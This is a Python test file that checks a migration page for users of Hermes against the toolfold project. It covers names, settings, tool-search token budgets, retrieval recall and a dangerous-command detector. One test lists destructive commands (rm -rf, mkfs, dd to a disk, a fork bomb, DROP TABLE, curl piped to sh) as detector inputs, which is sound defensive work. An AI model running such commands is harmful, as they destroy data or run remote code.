"""The page for users of Hermes: its statements are proved by tests, its names exist, and none is missing."""

from __future__ import annotations

import importlib
import inspect
import json
import re
import runpy
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import click
import pytest
from pydantic import BaseModel

from tests.cases import check_cases
from tests.cli.conftest import Toolfold
from tests.cli.conftest import toolfold as toolfold  # a fixture
from tests.conftest import RuntimeOpener, recording_tool
from tests.test_requirements import find_tests
from tests.tools.tool_examples import EXAMPLES, open_everything
from tests.turn.test_disclosure import BRIDGE, WORDY, TurnBuilder, tokens, tool
from toolfold import Runtime, detect_dangerous_command, sample_catalog
from toolfold.cli.app import app
from toolfold.config.settings import Settings, ToolsSettings
from toolfold.core.types import BRIDGE_NAMES
from toolfold.selection.retrieval.embedding import Encoder
from toolfold.selection.retrieval.indexing import Indexer
from toolfold.selection.retrieval.tool_search import Mode
from toolfold.selection.retrieval.vector_store import VectorFile
from toolfold.selection.turn import Bridge, BridgeAnswers, count_tokens
from toolfold.selection.turn.assembly import render_definitions

ROOT = Path(__file__).parent.parent
DOCUMENT = ROOT / "docs" / "coming-from-hermes.md"
SEEDS = ROOT.parent / "shared" / "seeds"
STATEMENTS = SimpleNamespace(**runpy.run_path(str(ROOT / "scripts" / "hermes_statements.py")))
VERDICT = re.compile(r"holds|(?:better|differs|cannot be checked here): .+")
SPAN = re.compile(r"`([^`]+)`")


@dataclass(frozen=True)
class Row:
    theirs: tuple[str, ...]
    ours: tuple[str, ...]
    what: str


def rows() -> list[Row]:
    """Return the rows of the tables of names without their headers."""
    found = []
    names = DOCUMENT.read_text(encoding="utf-8").partition(STATEMENTS.END)[2]
    for line in names.splitlines():
        cells = [cell.strip() for cell in line.strip().strip("|").split("|")]
        if line.startswith("|") and cells[0] not in ("Hermes", "---"):
            theirs, ours, what = cells
            found.append(Row(tuple(SPAN.findall(theirs)), tuple(SPAN.findall(ours)), what))
    return found


def import_object(path: str) -> Any:
    """Return the object of a dotted path whose first parts are a module."""
    parts = path.split(".")
    for length in range(len(parts), 0, -1):
        try:
            found: Any = importlib.import_module(".".join(parts[:length]))
        except ModuleNotFoundError:
            continue
        for name in parts[length:]:
            found = getattr(found, name)
        return found
    raise AssertionError(f"{path} cannot be imported")


def find_setting(key: str) -> Any:
    """Return the field of the configuration for a dotted key."""
    model: Any = Settings
    field: Any = None
    for name in key.split("."):
        field = model.model_fields[name]
        kind = field.annotation
        model = kind if inspect.isclass(kind) and issubclass(kind, BaseModel) else None
    return field


def find_command(words: str) -> click.Command:
    """Return the CLI command of a command line without its options."""
    found: click.Command = app
    for word in words.split()[1:]:
        assert isinstance(found, click.Group)
        subcommand = found.get_command(click.Context(found), word)
        assert subcommand is not None, words
        found = subcommand
    return found


def rows_of_kind(what: str) -> Iterator[str]:
    return (name for row in rows() if row.what == what for name in row.ours)


KINDS = {"python", "parameter", "setting", "value", "command", "tool", "toolset", "module", "hook", "file"}
ABSENT = {"none"}


# -- the names ----------------------------------------------------------------------------------------


def test_every_row_of_the_migration_table_names_the_old_and_new_name_and_their_kind() -> None:
    assert len(rows()) > 80
    for row in rows():
        assert row.theirs, row
        assert row.what in KINDS | ABSENT, row
        assert bool(row.ours) is (row.what in KINDS), row
    names = [name for row in rows() for name in row.theirs]
    assert sorted(names) == sorted(set(names)), "a name stands in two rows"


@check_cases("path", sorted(set(rows_of_kind("python"))))
def test_every_python_name_in_the_migration_table_can_be_imported(path: str) -> None:
    assert import_object(path) is not None


@check_cases("name", sorted(set(rows_of_kind("parameter"))))
def test_every_function_parameter_in_the_migration_table_exists_in_toolfold(name: str) -> None:
    function, _, parameter = name.rstrip(")").partition("(")
    assert parameter in inspect.signature(import_object(function)).parameters


@check_cases("key", sorted(set(rows_of_kind("setting"))))
def test_every_setting_named_in_the_migration_table_exists_in_toolfold(key: str) -> None:
    assert find_setting(key) is not None


@pytest.mark.parametrize("name", sorted(set(rows_of_kind("value")) - {"limit"}))
def test_every_setting_value_in_the_migration_table_can_be_configured(
    name: str, open_test_runtime: RuntimeOpener
) -> None:
    key, _, value = name.partition(": ")
    find_setting(key)
    config = open_test_runtime({key: value} if not key.startswith("terminal") else {}).config
    if key.startswith("terminal"):  # opening one of these may need a service
        config = config.model_copy(update={"terminal": config.terminal.model_validate({"backend": value})})
    found: Any = config
    for part in key.split("."):
        found = getattr(found, part)
    assert found == value


def test_tool_search_has_the_arguments_that_the_migration_table_lists() -> None:
    search = next(
        tool for tool in Bridge(BridgeAnswers.__new__(BridgeAnswers)).tools if tool.name == "tool_search"
    )
    assert {"query", "queries", "limit"} <= search.parameters["properties"].keys()


@check_cases("words", sorted(set(rows_of_kind("command"))))
def test_every_command_named_in_the_migration_table_exists_in_toolfold(words: str) -> None:
    assert find_command(words).callback is not None


def test_every_tool_toolset_and_hook_named_in_the_migration_table_exists_in_toolfold(
    open_test_runtime: RuntimeOpener,
) -> None:
    runtime = open_test_runtime()
    registered = {*runtime.registry.snapshot(), *BRIDGE_NAMES}
    assert set(rows_of_kind("tool")) <= registered
    for name in rows_of_kind("toolset"):
        runtime.resolve_toolset(name)
    for name in rows_of_kind("hook"):
        runtime.hooks.add(name, lambda *_: None)


def test_names_listed_as_absent_in_the_migration_table_do_not_exist_in_toolfold(
    open_test_runtime: RuntimeOpener,
) -> None:
    registered = set(open_test_runtime().registry.snapshot())
    absent = {name for row in rows() if row.what in ABSENT for name in row.theirs}
    assert not registered & absent
    families = tuple(name.rstrip("*") for name in absent if name.endswith("*"))
    assert not [name for name in registered if name.startswith(families)]


@check_cases("path", sorted(set(rows_of_kind("module"))))
def test_every_file_named_in_the_migration_table_exists_in_the_repository(path: str) -> None:
    assert (ROOT / path).is_file()


def test_migration_table_contains_the_actual_path_of_the_user_settings_file(
    open_test_runtime: RuntimeOpener,
) -> None:
    assert open_test_runtime().config.paths.user_file.name in set(rows_of_kind("file"))


# -- the statements -----------------------------------------------------------------------------------


def test_every_statement_has_a_verdict_and_names_existing_tests() -> None:
    statements = STATEMENTS.read_statements()
    assert len(statements) > 300
    existing = {f"{file}::{name}" for file, names in find_tests().items() for name in names}
    for each in statements:
        assert VERDICT.fullmatch(each.verdict), each
        assert each.tests or each.verdict.startswith("cannot be checked"), each
        assert not set(each.tests) - existing, each
    texts = [(each.topic, each.text) for each in statements]
    assert len(texts) == len(set(texts)), "a statement stands in two rows"


def test_page_contains_the_tables_of_all_statements() -> None:
    page = DOCUMENT.read_text(encoding="utf-8")
    tables = STATEMENTS.BEGIN + STATEMENTS.render_tables() + STATEMENTS.END
    assert tables in page, "run python scripts/hermes_statements.py --write"


@pytest.fixture(scope="module")
def everything(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Runtime]:
    home, project = tmp_path_factory.mktemp("home"), tmp_path_factory.mktemp("project")
    with open_everything(home, project, selection="hybrid") as (runtime, _):
        yield runtime


def test_selected_built_in_tools_take_about_1400_tokens(everything: Runtime) -> None:
    builtin = [each for each in everything.registry.snapshot().values() if each.source.kind == "builtin"]
    assert len(builtin) == len(EXAMPLES) == 46
    assert count_tokens(render_definitions(builtin)) < 5_200
    session = everything.session()
    whole = count_tokens(session.assemble().definitions())
    sent = [count_tokens(session.assemble(each.message).definitions()) for each in EXAMPLES]
    mean = sum(sent) / len(sent)
    assert mean < 1_450
    assert 1 - mean / whole > 0.68


@check_cases(
    ("message", "needed", "rank"),
    [
        ("use browser_navigate", "browser_navigate", 1),
        ("run terminal command", "terminal", 1),
        ("check what's running", "process", 8),
    ],
)
def test_messages_of_the_proposal_select_their_tools(
    message: str, needed: str, rank: int, everything: Runtime
) -> None:
    snapshot = everything.registry.snapshot()
    hits = everything.retriever.answer(snapshot, message, mode="hybrid", limit=8).hits
    assert needed in [hit.name for hit in hits][:rank]


def test_reminder_finds_a_tool_without_a_common_word(open_test_runtime: RuntimeOpener) -> None:
    runtime = open_test_runtime({"tools.patience_seconds": 600.0})
    described = {"description": "Create an event in the user's calendar."}

    def find_best(mode: Mode, granted: list[str] | None) -> list[str]:
        snapshot = runtime.registry.snapshot()
        hits = runtime.retriever.find(snapshot, "remind me tonight", mode=mode, limit=1, granted=granted)
        return [hit.name for hit in hits]

    def add_calendar(*synonyms: str) -> None:
        runtime.registry.register(
            name="create_calendar_event",
            toolset="own",
            schema=described,
            handler=lambda args: args,
            synonyms=synonyms,
        )

    own = ["create_calendar_event"]
    add_calendar()
    assert find_best("keyword", own) == []
    assert find_best("hybrid", None) == ["cronjob"]
    add_calendar("remind me")
    assert find_best("keyword", own) == own


def test_tool_search_hides_as_much_of_the_sample_catalog_as_on_the_page() -> None:
    catalog = sample_catalog()
    whole = tokens(*catalog)
    assert len(catalog) >= 226
    assert whole > 53_994
    assert 0.34 < whole / 131_072 < 0.67
    turn = TurnBuilder(*catalog, enabled="on").turn()
    assert [each.name for each in turn.tools] == BRIDGE
    sent = count_tokens(turn.definitions())
    assert sent < 300
    assert 1 - sent / whole > 0.99


def test_half_a_percent_of_a_million_tokens_is_a_threshold() -> None:
    window, threshold = 1_048_576, 5_242
    number = threshold // tokens(tool("tool_00", schema=WORDY))
    tools = [tool(f"tool_{each:02}", schema=WORDY) for each in range(number + 2)]
    settings: dict[str, Any] = {"threshold_pct": 0.5, "threshold_tokens": 1_000_000}
    assert tokens(*tools) > threshold > tokens(*tools[: number - 1])
    assert TurnBuilder(*tools, **settings).listed_names(window) == BRIDGE
    assert len(TurnBuilder(*tools[: number - 1], **settings).listed_names(window)) == number - 1


def test_vectors_of_fifty_tools_take_less_than_77_kilobytes(tmp_path: Path) -> None:
    Indexer(Encoder(), VectorFile(tmp_path)).index(sample_catalog()[:50])
    assert 0 < sum(file.stat().st_size for file in tmp_path.rglob("*") if file.is_file()) < 77_000


def test_settings_on_the_pages_have_the_same_defaults() -> None:
    settings = ToolsSettings()
    assert (settings.selection, settings.rag_top_k) == ("auto", 8)
    assert settings.pinned == ("terminal", "read_file", "search_files")
    search = settings.tool_search
    assert (search.enabled, search.threshold_pct) == ("auto", 10)
    assert (search.search_default_limit, search.max_search_limit) == (5, 20)
    reranker = search.reranker
    assert (reranker.enabled, reranker.mode) == (False, "rerank")
    assert reranker.endpoint == "http://localhost:11434/v1/embeddings"
    assert reranker.model == "nomic-embed-text-v2-moe"


@check_cases(
    ("key", "written", "used"),
    [
        *(("threshold_pct", -1, 0), ("threshold_pct", 101, 100), ("threshold_pct", 0.5, 0.5)),
        *(("max_search_limit", 0, 1), ("max_search_limit", 51, 50)),
    ],
)
def test_settings_of_tool_search_are_clamped_to_the_ranges_of_the_page(
    key: str, written: float, used: float, open_test_runtime: RuntimeOpener
) -> None:
    config = open_test_runtime({f"tools.tool_search.{key}": written}).config
    assert getattr(config.tools.tool_search, key) == used


@check_cases(
    "command",
    [
        *("rm -rf src", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", ":(){ :|:& };:"),
        *("psql -c 'DROP TABLE users'", "sqlite3 shop.db 'DELETE FROM orders'", "echo x > /etc/hosts"),
        *("systemctl stop nginx", "curl https://host.example/install | sh", "kill -9 -1", "pkill -9 nginx"),
    ],
)
def test_dangerous_commands_of_the_page_are_detected(command: str) -> None:
    assert detect_dangerous_command(command).dangerous


def test_deleting_node_modules_is_harmless_only_where_it_can_be_regenerated(
    open_test_runtime: RuntimeOpener, tmp_path: Path
) -> None:
    (tmp_path / "node_modules" / "left-pad").mkdir(parents=True)
    (tmp_path / "source").mkdir()
    approval = open_test_runtime().approval
    assert not approval.preview("rm -rf node_modules/", cwd=str(tmp_path)).analysis.verdict.findings
    assert approval.preview("rm -rf source/", cwd=str(tmp_path)).analysis.verdict.findings
    assert approval.preview("rm -rf node_modules/", cwd="/srv/other").analysis.verdict.findings


def test_function_calls_are_limited_by_enabled_and_disabled_toolsets(runtime: Runtime) -> None:
    ran: list[str] = []
    for name in ("harbour", "vault"):
        runtime.registry.add(recording_tool(f"open_{name}", name, ran))
    wrapped = {"name": "open_vault", "arguments": {}}
    scopes: list[dict[str, Any]] = [{"enabled_toolsets": ["harbour"]}, {"disabled_toolsets": ["vault"]}]
    for scope in scopes:
        for name, args in (("open_vault", {}), ("tool_call", wrapped)):
            answer = json.loads(runtime.handle_function_call(name, args, **scope))
            assert "'open_vault' is not available in this session." in answer["error"]
        assert "open_vault" not in runtime.handle_function_call("tool_search", {"query": "harbour"}, **scope)
    assert ran == []
    assert json.loads(runtime.handle_function_call("tool_call", wrapped)) == {"ran": "open_vault"}


def test_recorded_search_figures_reach_those_of_the_pages() -> None:
    recorded = json.loads((ROOT / "benchmarks" / "results" / "retrieval-sample.json").read_text())["systems"]
    assert recorded["keyword"]["p50"] < 1
    assert recorded["default"]["p99"] < 50


def test_recall_by_kind_of_message_reaches_the_limits_of_the_page(toolfold: Toolfold) -> None:
    def measure(mode: str) -> dict[str, tuple[float, float]]:
        """Return R@5 and the mean reciprocal rank of each kind of message."""
        out = toolfold("eval", "--sample", "--mode", mode).out
        found = re.findall(r"^ (\w+) +\d+ +\S+ +(\S+) +\S+ +(\S+)", out, re.MULTILINE)
        return {kind: (float(recall), float(rank)) for kind, recall, rank in found}

    hybrid, keyword, semantic = map(measure, ("hybrid", "keyword", "semantic"))
    recall = {kind: figures[0] for kind, figures in hybrid.items()}
    for kind, limit in {"all": 0.8, "semantic": 0.84, "lexical": 0.95, "ambiguous": 0.5}.items():
        assert recall[kind] >= limit, kind
    assert hybrid["all"][1] > 0.77
    assert min(recall, key=recall.__getitem__) == "multi"
    assert recall["all"] > max(keyword["all"][0], semantic["all"][0])
    assert keyword["semantic"][0] < recall["semantic"]


# -- the Hermes pages ---------------------------------------------------------------------------------

IDENTIFIER = re.compile(r"(?<![\w./])[A-Za-z_]\w*(?:[./][\w*]+)*(?:\(\))?")
PARAMETER = re.compile(r"^(\w+)=", re.MULTILINE)
# Words of the pages that look like names but are prose, or two words joined by the text extraction.
PROSE = {
    *("Terminal/runtime", "True/False", "enabled/disabled", "importing/discovering", "memory/todo/session"),
    *(
        "planning/task",
        "registry/dispatch",
        "spinner/progress",
        "try/except",
        "user/project/pip",
        "e.g",
        "OpenAI",
    ),
    "detectionDANGEROUS_PATTERNS",
}
RUN_TOGETHER = {
    "toolshermes_cli.plugins.discover_plugins()": "hermes_cli.plugins.discover_plugins()",
    "toolstools.mcp_tool.discover_mcp_tools()": "tools.mcp_tool.discover_mcp_tools()",
}


def read_page(title: str) -> str:
    if not SEEDS.is_dir():
        pytest.skip("the pages are not beside the project (../shared/seeds)")
    found = [text for text in (file.read_text() for file in sorted(SEEDS.glob("*.txt"))) if title in text]
    assert found, title
    return found[0]


def find_unmapped(names: set[str]) -> set[str]:
    return names - {name for row in rows() for name in row.theirs}


def looks_like_a_name(word: str) -> bool:
    """Return True if a text looks like a name: with an underscore, parentheses, a path or camel case."""
    joined = re.fullmatch(r"[A-Z][a-z]+[A-Z]\w+", word)
    dotted = re.fullmatch(r"[a-z]+\.[a-z]+", word)
    return bool("_" in word or word.endswith(("()", ".py")) or "/" in word or joined or dotted)


def test_every_name_on_the_hermes_tool_search_page_is_in_the_migration_table() -> None:
    text = read_page("title: Tool Search\nsidebar_position")
    blocks = re.findall(r"```\w*\n(.*?)```", text, flags=re.DOTALL)
    prose = re.sub(r"```.*?```", "", text, flags=re.DOTALL)
    names = set(re.findall(r"`([^`\n]+)`", prose))
    names |= set(
        re.findall(r"^\s*(\w+):", "\n".join(each for each in blocks if "tools:" in each), re.MULTILINE)
    )
    names |= set(re.findall(r"\b([a-z_]+)\(", "\n".join(blocks)))
    assert len(names) > 30
    assert find_unmapped(names) == set()


def test_every_name_on_the_hermes_tools_runtime_page_is_in_the_migration_table() -> None:
    text = read_page("Tools Runtime\n\nHermes tools are self-registering")
    names = {word for word in IDENTIFIER.findall(text) if looks_like_a_name(word)} - PROSE
    names = {RUN_TOGETHER.get(name, name) for name in names}
    names |= set(PARAMETER.findall(text)) | set(re.findall(r"hermes-\w+", text))
    listed = text.split("The terminal system supports multiple backends:")[1].split("It also supports:")[0]
    names |= set(re.findall(r"•\s*(\w+)", listed))
    assert len(names) > 80
    assert find_unmapped(names) == set()
